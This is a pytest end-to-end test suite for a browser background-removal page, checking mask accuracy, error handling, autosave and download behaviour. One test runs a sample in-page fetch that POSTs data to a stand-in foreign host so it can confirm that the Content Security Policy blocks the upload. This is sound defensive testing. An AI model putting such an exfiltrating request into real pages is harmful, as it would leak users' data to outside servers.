"""Tier 3: the remove-and-download slice in headless Chromium, driven like a person would."""

from __future__ import annotations

import base64
import io
import json

import numpy as np
import pytest
from PIL import Image

from matte.models import load_catalog
from matte.pipeline import segment
from matte.runner import OnnxRunner
from tests.e2e.conftest import PageDriver

pytestmark = pytest.mark.e2e
CAT = load_catalog()


@pytest.fixture(scope="module")
def runner():
    pytest.importorskip("onnxruntime")
    return OnnxRunner()


def _download(page, path):
    with page.expect_download() as info:
        page.click("#download")
    dl = info.value
    dl.save_as(path)
    return dl.suggested_filename, path.read_bytes()


@pytest.fixture(scope="module")
def astronaut_png(tmp_path_factory, data_dir):
    """The astronaut as a lossless PNG: Pyodide's libjpeg and the CPython wheel's libjpeg-turbo
    decode JPEGs a few levels apart, so exact comparisons start from a PNG."""
    path = tmp_path_factory.mktemp("photos") / "astronaut.png"
    Image.open(data_dir / "astronaut.jpg").convert("RGB").save(path)
    return path


def _check_result(drv, artifacts, source, runner, model, tag):
    name, png = _download(drv.page, artifacts / f"{tag}-download.png")
    assert name == "astronaut-matte.png"
    out = Image.open(io.BytesIO(png))
    assert out.mode == "RGBA" and out.size == (512, 512)
    rgba = np.asarray(out)
    original = np.asarray(Image.open(source).convert("RGB"))
    # straight alpha: the original pixels are kept bit-exact wherever anything shows; fully
    # transparent pixels are cleared so the removed background does not survive in the file
    shown = rgba[:, :, 3] > 0
    np.testing.assert_array_equal(rgba[:, :, :3][shown], original[shown])
    assert (rgba[~shown] == 0).all()
    want = segment(original, CAT.get(model), runner)
    diff = np.abs(rgba[:, :, 3].astype(int) - want.astype(int))
    report = {"model": model, "mean_abs_diff": float(diff.mean()), "max_abs_diff": int(diff.max()),
              "timings": drv.page.evaluate("window.matteApp.timings")}
    (artifacts / f"{tag}-report.json").write_text(json.dumps(report, indent=1))
    print(f"\n{tag}: browser vs CPython alpha {report}")
    assert diff.mean() < 1.0, report  # the goal: under 1/255 on average
    assert (diff > 8).mean() < 0.001, report


def test_fast_model_drop_and_download(browser, site, artifacts, astronaut_png, runner):
    drv = PageDriver(browser, site.origin)
    try:
        drv.open("?model=u2netp")
        drv.page.wait_for_selector("#dropzone:not([hidden])")
        drv.page.screenshot(path=artifacts / "slice-empty.png")
        drv.wait_ready()
        drv.drop_file(astronaut_png, mime="image/png")
        assert drv.wait_done() == "done"
        drv.page.screenshot(path=artifacts / "slice-u2netp-done.png")
        assert drv.page.evaluate("window.matteApp.backend") == "wasm"
        assert drv.page.evaluate("crossOriginIsolated") is False  # like GitHub Pages
        _check_result(drv, artifacts, astronaut_png, runner, "u2netp", "slice-u2netp")
        assert drv.foreign_requests() == []
        assert all(m == "GET" and body is None for m, _, body in drv.requests), drv.requests
        assert drv.errors == []
    finally:
        drv.close()


def test_default_model_isolated(browser, isolated_site, artifacts, astronaut_png, runner):
    """The default (ISNet fused with u2netp) end to end, with COOP/COEP so onnxruntime-web
    uses threads."""
    drv = PageDriver(browser, isolated_site.origin)
    try:
        drv.open()
        drv.wait_ready(timeout=300_000)
        assert drv.page.evaluate("crossOriginIsolated") is True
        assert drv.page.evaluate("window.matteApp.modelId") == CAT.default
        drv.page.set_input_files("#file", str(astronaut_png))  # the file picker path
        assert drv.wait_done(timeout=400_000) == "done"
        drv.page.screenshot(path=artifacts / "slice-default-done.png")
        _check_result(drv, artifacts, astronaut_png, runner, CAT.default, "slice-default")
        assert drv.foreign_requests() == []
    finally:
        drv.close()


def test_fused_default_equals_cpython(browser, site, artifacts, data_dir, tmp_path, runner):
    """The default (best: ISNet fused with u2netp) on a photo the fusion changes: the page's
    mask equals CPython's within 1/255 on average, and the page ran each model once (the final
    stage reuses the preview's u2netp output)."""
    png = tmp_path / "chelsea.png"  # a PNG: the same pixels under both Pillows
    Image.open(data_dir / "chelsea.jpg").convert("RGB").save(png)
    rgb = np.asarray(Image.open(png))
    want = segment(rgb, CAT.get("best"), runner).astype(int)
    alone = segment(rgb, CAT.get("isnet-medium"), runner).astype(int)
    assert np.abs(want - alone).mean() > 5  # ISNet leaves a wide part undecided here
    drv = PageDriver(browser, site.origin)
    try:
        drv.open()
        drv.wait_ready()
        assert drv.page.evaluate("window.matteApp.modelId") == CAT.default == "best"
        picked = drv.page.evaluate("document.querySelector('#model').selectedOptions[0].text")
        assert picked.startswith("Best (ISNet + U2-Net)") and "93 MB" in picked, picked
        options = drv.page.evaluate(
            "[...document.querySelector('#model').options].map((o) => o.value)")
        assert {"isnet-medium", "u2netp"} <= set(options)  # the single models stay available
        drv.drop_file(png, mime="image/png")
        assert drv.wait_done(timeout=400_000) == "done"
        drv.page.screenshot(path=artifacts / "slice-fused-done.png")
        b64 = drv.page.evaluate(
            "() => { const o = window.mattePy.export_image('png', 90, true);"
            " let s = ''; for (const b of o.bytes) s += String.fromCharCode(b); return btoa(s); }")
        got = np.asarray(Image.open(io.BytesIO(base64.b64decode(b64))).convert("L")).astype(int)
        diff = np.abs(got - want)
        report = {"mean_abs_diff": float(diff.mean()), "max_abs_diff": int(diff.max()),
                  "vs_isnet_alone": float(np.abs(got - alone).mean())}
        (artifacts / "slice-fused-report.json").write_text(json.dumps(report, indent=1))
        assert diff.mean() < 1.0, report
        assert (diff > 8).mean() < 0.002, report
        runs = drv.page.evaluate("window.mattePy.status().model_runs")
        assert runs == {"u2netp": 1, "isnet-medium": 1}, runs
        assert drv.errors == []
    finally:
        drv.close()


def test_non_image_and_bad_files_keep_the_page_usable(browser, site, artifacts, data_dir,
                                                      tmp_path):
    drv = PageDriver(browser, site.origin)
    try:
        drv.open("?model=u2netp")
        drv.wait_ready()
        text = tmp_path / "notes.png"
        text.write_text("this is not a picture")
        drv.drop_file(text, mime="image/png")
        assert drv.wait_done() == "error"
        msg = drv.page.inner_text("#error-text")
        assert "not an image" in msg
        drv.page.screenshot(path=artifacts / "slice-not-an-image.png")
        # the page still works: a real image goes through afterwards
        drv.drop_file(data_dir / "chelsea.jpg")
        assert drv.wait_done() == "done"
        assert drv.page.is_hidden("#error")
        # an empty file after a result: clear message, the result stays downloadable
        empty = tmp_path / "empty.jpg"
        empty.write_bytes(b"")
        drv.drop_file(empty)
        assert drv.wait_done() == "done"
        assert "empty" in drv.page.inner_text("#error-text")
        assert drv.page.is_enabled("#download")
        assert drv.errors == []
    finally:
        drv.close()


def test_corrupt_model_download_is_reported(browser, site, artifacts, data_dir):
    drv = PageDriver(browser, site.origin)
    try:
        spec = CAT.get("u2netp")

        def corrupt(route):
            body = bytearray(route.fetch().body())
            body[1000:1010] = b"\x00" * 10
            route.fulfill(status=200, body=bytes(body),
                          headers={"content-type": "application/octet-stream"})

        drv.page.route(f"**/models/{spec.file}", corrupt)
        drv.open("?model=u2netp")
        drv.page.wait_for_function("Boolean(document.body.dataset.error)", timeout=120_000)
        msg = drv.page.inner_text("#error-text")
        assert "corrupt" in msg and "build.py" in msg, msg
        drv.page.screenshot(path=artifacts / "slice-corrupt-model.png")
        # the image dropped meanwhile is kept; once the file is fixed, "Try again" finishes it
        drv.drop_file(data_dir / "astronaut.jpg")
        drv.page.wait_for_function(
            "window.matteApp.queue.length === 1 && window.matteApp.queue[0].status === 'failed'",
            timeout=120_000)
        assert drv.page.is_visible("#error-retry")
        drv.page.unroute(f"**/models/{spec.file}")
        drv.page.click("#error-retry")
        assert drv.wait_done() == "done"
        assert drv.page.evaluate("window.matteApp.queue[0].status") == "done"
        assert not drv.page.is_visible("#error-retry")
    finally:
        drv.close()


def test_csp_blocks_uploads_to_other_origins(browser, site):
    """Even code running in the page cannot send data elsewhere: connect-src is 'self'."""
    drv = PageDriver(browser, site.origin)
    try:
        drv.open("?model=u2netp")
        drv.page.wait_for_selector("#dropzone:not([hidden])")
        outcome = drv.page.evaluate("""async () => {
            const seen = [];
            document.addEventListener('securitypolicyviolation',
                                      (e) => seen.push(e.violatedDirective));
            let failed = false;
            try {
                await fetch('http://127.0.0.2:9/upload', {method: 'POST', body: 'pixels'});
            } catch (err) { failed = true; }
            await new Promise((r) => setTimeout(r, 100));
            return {failed, seen};
        }""")
        assert outcome["failed"] is True
        assert "connect-src" in outcome["seen"]
        assert not [u for u in drv.foreign_requests() if "127.0.0.2" in u]
    finally:
        drv.close()


def test_closing_with_an_undownloaded_result_asks_first(browser, site, astronaut_png):
    drv = PageDriver(browser, site.origin)
    try:
        drv.open("?model=u2netp")
        drv.wait_ready()
        drv.drop_file(astronaut_png, mime="image/png")
        assert drv.wait_done() == "done"
        dialogs = []

        def on_dialog(d):
            dialogs.append(d.type)
            d.dismiss()  # stay on the page

        drv.page.on("dialog", on_dialog)
        drv.page.close(run_before_unload=True)
        drv.page.wait_for_timeout(500)
        assert dialogs == ["beforeunload"]
        assert not drv.page.is_closed()
        ask = ("(() => { const e = new Event('beforeunload', {cancelable: true});"
               " window.dispatchEvent(e); return e.defaultPrevented; })()")
        assert drv.page.evaluate(ask) is True
        with drv.page.expect_download():
            drv.page.click("#download")
        assert drv.page.evaluate(ask) is False  # downloaded: nothing to lose, no question
    finally:
        drv.close()


def test_autosave_restores_edits_after_reload(browser, site, astronaut_png, tmp_path):
    drv = PageDriver(browser, site.origin)
    try:
        drv.open("?model=u2netp")
        drv.wait_ready()
        drv.drop_file(astronaut_png, mime="image/png")
        assert drv.wait_done() == "done"
        page = drv.page
        # erase a band across the subject with the mouse
        v = page.evaluate("(() => { const v = window.matteApp.editor.view; const b = document."
                          "querySelector('#stage').getBoundingClientRect(); return [v.zoom, v.ox,"
                          " v.oy, b.left, b.top]; })()")
        z, ox, oy, bx, by = v
        page.keyboard.press("e")
        page.mouse.move(bx + (100 - ox) * z, by + (400 - oy) * z)
        page.mouse.down()
        page.mouse.move(bx + (300 - ox) * z, by + (400 - oy) * z, steps=8)
        page.mouse.up()
        page.wait_for_function("Boolean(document.body.dataset.autosaved)", timeout=20_000)
        with page.expect_download() as info:
            page.click("#download")
        edited = np.asarray(Image.open(info.value.path()))[:, :, 3]
        assert edited[395:405, 120:280].max() < 60

        page.reload()
        page.wait_for_function("document.body.dataset.restored === '1'", timeout=120_000)
        assert "Restored your last session" in page.inner_text("#notice")
        with page.expect_download() as info:
            page.click("#download")
        restored = np.asarray(Image.open(info.value.path()))[:, :, 3]
        np.testing.assert_array_equal(restored, edited)
        page.click("#discard-restore")
        page.wait_for_selector("#dropzone:not([hidden])")
        page.wait_for_function("document.body.dataset.ready === '1'", timeout=120_000)
        page.wait_for_timeout(500)
        assert page.evaluate("document.body.dataset.restored") is None
        assert drv.errors == []
    finally:
        drv.close()
